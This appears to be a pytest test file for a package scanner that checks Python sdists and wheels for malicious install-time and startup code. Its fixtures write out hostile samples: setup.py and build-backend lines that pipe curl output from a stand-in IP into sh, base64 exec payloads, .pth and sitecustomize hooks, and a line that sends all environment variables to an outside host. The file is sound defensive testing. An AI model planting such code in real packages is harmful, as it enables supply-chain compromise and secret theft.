"""The orchestrator end to end, on `Member` lists built here (nothing is run)."""

from __future__ import annotations

import base64
import io
import random
import zipfile

from pycustoms.analyzers.code import CodeReport
from pycustoms.analyzers.code.analyze import (
    MAX_PER_RULE_PER_FILE,
    analyze_package,
    backend_locations,
    decode_text,
    is_python,
)
from pycustoms.analyzers.code.diff import capability_findings
from pycustoms.archive import Member
from pycustoms.config import Policy
from pycustoms.policy import decide
from pycustoms.types import Capability, Decision, PackageKind, Severity

WHEEL_META = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 200


def _wheel(files: dict[str, str | bytes], tag: str = "py3-none-any") -> list[Member]:
    members = [Member("demo-1.0.dist-info/WHEEL", WHEEL_META.replace("py3-none-any", tag).encode())]
    members += [Member(k, v.encode() if isinstance(v, str) else v) for k, v in files.items()]
    return members


def _decision(report: CodeReport) -> Decision:
    return decide(report.findings, Policy()).decision


PY2_SETUP = """\
import os, base64
from distutils.core import setup
print "running setup"
exec base64.b64decode("cHJpbnQoJ2luZXJ0Jyk=")
os.system("curl -s http://198.51.100.7/i.sh | sh")
setup(name="demo", version="1.0", packages=["demo"])
"""


def test_python2_setup_payload_is_blocked_by_the_fallback() -> None:
    members = [Member("setup.py", PY2_SETUP.encode()), Member("demo/__init__.py", b"")]
    report = analyze_package(PackageKind.SDIST, members)
    assert report.files == 2
    assert _decision(report) is Decision.BLOCK
    rules = {f.rule for f in report.findings}
    assert "code/exec-decoded-payload" in rules
    assert Capability.INSTALL_TIME in report.capabilities


def test_benign_wheel_with_minified_js_fake_secrets_and_pth_files() -> None:
    files: dict[str, str | bytes] = {
        "demo/__init__.py": "__version__ = '1.0'\n",
        "demo/static/app.min.js": "var a=function(b){return b*2};" * 3000,
        "demo/tests/test_keys.py": "AWS_SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'\n",
        "distutils-precedence.pth": "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = "
        "os.environ.get(var, 'local') == 'local'; enabled and "
        "__import__('_distutils_hack').add_shim(); \n",
        "__editable___demo_1_0_finder.py": "def install():\n    pass\n",
        "__editable__.demo-1.0.pth": "import __editable___demo_1_0_finder; "
        "__editable___demo_1_0_finder.install()\n",
        "demo.pth": "/opt/demo/lib\n",
    }
    report = analyze_package(PackageKind.WHEEL, _wheel(files))
    assert _decision(report) is Decision.ALLOW, report.findings
    assert report.bytes > 90_000


def test_compiled_extension_in_platform_wheel_is_fine() -> None:
    members = _wheel(
        {"demo/_ext.cpython-311-x86_64-linux-gnu.so": ELF, "demo/__init__.py": ""},
        tag="cp311-cp311-manylinux_2_17_x86_64",
    )
    report = analyze_package(PackageKind.WHEEL, members)
    assert not report.findings
    assert Capability.NATIVE_BINARY in report.capabilities


def test_executable_in_pure_wheel_is_reported() -> None:
    report = analyze_package(PackageKind.WHEEL, _wheel({"demo/bin/updater": ELF}))
    assert {f.rule for f in report.findings} == {"code/binary-in-pure-package"}


def test_pth_payload_in_wheel_blocks() -> None:
    payload = "import base64; exec(base64.b64decode('cHJpbnQoJ2luZXJ0Jyk='))\n"
    report = analyze_package(PackageKind.WHEEL, _wheel({"demo_init.pth": payload}))
    assert _decision(report) is Decision.BLOCK


def test_module_imported_by_pth_is_judged_as_startup_code_in_any_order() -> None:
    hook = "import os, base64\nexec(base64.b64decode('cHJpbnQoJ2luZXJ0Jyk='))\n"
    members = _wheel({"zz_hook.py": hook, "aa.pth": "import zz_hook\n"})
    report = analyze_package(PackageKind.WHEEL, members)
    exec_findings = [f for f in report.findings if f.file == "zz_hook.py"]
    assert exec_findings
    assert max(f.severity for f in exec_findings) is Severity.CRITICAL


def test_in_tree_backend_is_install_time_even_when_listed_first() -> None:
    backend = "import os\nos.system('curl -s http://198.51.100.7/x | sh')\n"
    pyproject = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_b"]\n'
    members = [
        Member("_b/backend.py", backend.encode()),
        Member("pyproject.toml", pyproject.encode()),
    ]
    report = analyze_package(PackageKind.SDIST, members)
    assert any(f.severity is Severity.CRITICAL for f in report.findings), report.findings
    assert backend_locations(pyproject) == (
        frozenset({"_b/backend.py", "_b/backend/__init__.py"}),
        frozenset({"_b"}),
    )
    assert backend_locations("not toml [") == (frozenset(), frozenset())


def test_exec_of_shipped_text_file_in_setup_py() -> None:
    setup = "exec(open('demo/payload.txt').read())\nfrom setuptools import setup\nsetup()\n"
    members = [
        Member("setup.py", setup.encode()),
        Member("demo/payload.txt", b"import os\nos.system('id')\n"),
    ]
    report = analyze_package(PackageKind.SDIST, members)
    assert "code/exec-non-python-file" in {f.rule for f in report.findings}
    assert _decision(report) is Decision.BLOCK


def test_nested_base64_zip_is_unpacked_and_scanned() -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("stage2.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n")
        archive.writestr("pad.bin", random.Random(3).randbytes(3000))
    blob = base64.b64encode(inner.getvalue()).decode()
    source = f"DATA = '{blob}'\n"
    report = analyze_package(PackageKind.WHEEL, _wheel({"demo/__init__.py": source}))
    nested = [f for f in report.findings if f.file and "!" in f.file]
    assert any(f.rule == "code/exec-decoded-payload" for f in nested), report.findings


def test_findings_are_capped_per_rule_per_file() -> None:
    lines = "".join(f"exec(__import__('base64').b64decode('eA=={i}'))\n" for i in range(20))
    report = analyze_package(PackageKind.WHEEL, _wheel({"demo/m.py": lines}))
    per_rule: dict[str, int] = {}
    for f in report.findings:
        per_rule[f.rule] = per_rule.get(f.rule, 0) + 1
    assert per_rule
    assert max(per_rule.values()) <= MAX_PER_RULE_PER_FILE


def test_helpers() -> None:
    assert decode_text("h\u00e9".encode()) == "h\u00e9"
    assert decode_text(b"h\xe9") == "h\u00e9"
    assert is_python("bin/tool", "#!/usr/bin/env python3\nprint(1)\n")
    assert not is_python("bin/tool.sh", "#!/bin/sh\n")


def test_capability_diff_findings() -> None:
    old = frozenset({Capability.ENV_READ})
    new = frozenset({Capability.ENV_READ, Capability.NETWORK, Capability.NATIVE_BINARY})
    found = {f.message.split("'")[1]: f for f in capability_findings(old, new, previous="1.0")}
    assert set(found) == {"network", "native-binary"}
    assert {f.rule for f in found.values()} == {"code/capability-gained"}
    assert found["network"].severity is Severity.HIGH
    assert found["native-binary"].severity is Severity.MEDIUM
    assert "1.0" in found["network"].message
    assert capability_findings(new, old, previous="2.0") == []


def test_a_wheels_data_purelib_start_up_files_are_judged_where_they_are_installed() -> None:
    # `*.data/purelib/` lands in site-packages: a sitecustomize.py there runs at every
    # start, and so does a module that a .pth there imports.
    payload = (
        "import os, urllib.request\n"
        "urllib.request.urlopen('http://198.51.100.4/s', data=str(dict(os.environ)).encode())\n"
    )
    for files in (
        {"demo-1.0.data/purelib/sitecustomize.py": payload},
        {
            "demo-1.0.data/purelib/demo_hook.py": payload.replace("import os", "import os  # x"),
            "demo-1.0.data/purelib/demo.pth": "import demo_hook\n",
        },
    ):
        report = analyze_package(PackageKind.WHEEL, _wheel(files))
        assert _decision(report) is Decision.BLOCK, report.findings
        assert any("every interpreter start" in f.message for f in report.findings)
